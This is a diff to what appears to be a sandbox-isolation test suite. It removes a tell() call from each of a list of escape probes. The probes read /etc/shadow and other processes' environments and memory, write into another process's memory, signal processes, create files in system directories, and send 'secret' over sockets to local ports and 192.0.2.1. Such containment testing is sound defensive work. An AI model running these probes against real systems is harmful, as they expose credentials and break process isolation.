@@ -12,7 +12,6 @@ REACHING: Final = [
         attempt("own", lambda: any("CANARY" in name for name in os.environ))
         for process in ("self", "1", str(os.getppid()), str(HOST_PID), str(DECOY_PID)):
             attempt(process, lambda: CANARY_NAME in open(f"/proc/{process}/environ").read())
-        tell()
         """,
     ),
     attack(
@@ -35,7 +34,6 @@ REACHING: Final = [
                 return canary in memory.read(end - start)
         for process in ("self", "1", str(os.getppid()), str(HOST_PID), str(DECOY_PID)):
             attempt(f"stack of {process}", lambda: stack(process))
-        tell()
         """,
     ),
     attack(
@@ -46,7 +44,6 @@ REACHING: Final = [
         for path in ("/etc/shadow", "/etc/passwd", REPOSITORY_FILE, OTHER_SAMPLE, SHARED_MEMORY, host):
             attempt(path, reads(path))
         attempt("directory of samples", lambda: bool(os.listdir(os.path.dirname(OTHER_SAMPLE))))
-        tell()
         """,
     ),
     attack(
@@ -66,7 +63,6 @@ REACHING: Final = [
             attempt("hard", by(os.link, directory + "/longshore-attack-hard-link"))
         attempt("root of another", reads(f"/proc/{os.getppid()}/root{OTHER_SAMPLE}"))
         attempt("root of the host", reads(f"/proc/{HOST_PID}/root{OTHER_SAMPLE}"))
-        tell()
         """,
     ),
     attack(
@@ -78,7 +74,6 @@ REACHING: Final = [
         attempt("access", lambda: os.access(OTHER_SAMPLE, os.F_OK))
         attempt("directory", lambda: os.chdir(directory))
         attempt("file system", lambda: bool(os.statvfs(OTHER_SAMPLE)))
-        tell()
         """,
     ),
     attack(
@@ -104,7 +99,6 @@ REACHING: Final = [
         for command in (fcntl.F_SETLKW, 38):  # F_OFD_SETLKW
             if not escaped:  # Where these do something, they wait until the time is over.
                 attempt("wait for lock", lambda: locked(lambda: fcntl.fcntl(device, command, lock)))
-        tell()
         """,
     ),
     attack(
@@ -116,7 +110,6 @@ REACHING: Final = [
             attempt(f"length of {path}", lambda: os.truncate(path, os.stat(path).st_size))
             attempt(f"times of {path}", lambda: os.utime(path))
             attempt(f"mode of {path}", lambda: os.chmod(path, 0o666 if path == LOOSE_FILE else 0o644))
-        tell()
         """,
     ),
     attack(
@@ -127,7 +120,6 @@ REACHING: Final = [
             with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1):
                 pass
         attempt("tcp", connect)
-        tell()
         """,
     ),
     attack(
@@ -141,7 +133,6 @@ REACHING: Final = [
                 with socket.create_connection(server.getsockname(), timeout=1):
                     pass
         attempt("tcp", listen)
-        tell()
         """,
     ),
     attack(
@@ -153,7 +144,6 @@ REACHING: Final = [
                 sender.sendto(b"secret", address)
         attempt("udp", lambda: send(socket.AF_INET, ("127.0.0.1", UDP_PORT)))
         attempt("name server", lambda: send(socket.AF_INET, ("192.0.2.1", 53)))
-        tell()
         """,
     ),
     attack(
@@ -170,7 +160,6 @@ REACHING: Final = [
             mine, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
             mine.sendto(b"secret", "\\0" + ABSTRACT_DATAGRAM)
         attempt("pair", datagram_pair)
-        tell()
         """,
     ),
     attack(
@@ -189,7 +178,6 @@ REACHING: Final = [
             os.write(write, b"x")
             return False  # Whether it came, the neighbour knows.
         attempt("by a descriptor", owner)
-        tell()
         """,
     ),
     attack(
@@ -218,7 +206,6 @@ REACHING: Final = [
                 return libc.process_vm_writev(process, here, 1, there, 1, 0) >= 0 or ctypes.get_errno() == 14
             attempt(f"process_vm_writev {process}", write_memory)
             attempt(f"limits of {process}", lambda: __import__("resource").prlimit(process, 7))
-        tell()
         """,
     ),
     attack(
@@ -232,7 +219,6 @@ REACHING: Final = [
             attempt(f"signal to {process}", with_descriptor(PIDFD_SEND_SIGNAL, 0, None, 0))
             attempt(f"descriptor of {process}", with_descriptor(PIDFD_GETFD, 0, 0))
         attempt("signal", lambda: signal.pidfd_send_signal(os.pidfd_open(DECOY_PID), signal.SIGUSR1))
-        tell()
         """,
     ),
     attack(
@@ -247,7 +233,6 @@ REACHING: Final = [
             discard(path)
         for directory in (os.path.dirname(os.__file__), os.path.dirname(REPOSITORY_FILE), "/usr/lib", "/etc", "/"):
             attempt(directory, lambda: create(directory))
-        tell()
         """,
     ),
     attack(
@@ -268,7 +253,6 @@ REACHING: Final = [
             attempt(f"mode of {path}", lambda: os.chmod(path, os.stat(path).st_mode & 0o7777))
             attempt(f"attribute of {path}", lambda: os.setxattr(path, "user.longshore", b"x"))
             attempt(f"no attribute of {path}", lambda: os.removexattr(path, "user.longshore"))
-        tell()
         """,
     ),
 ]
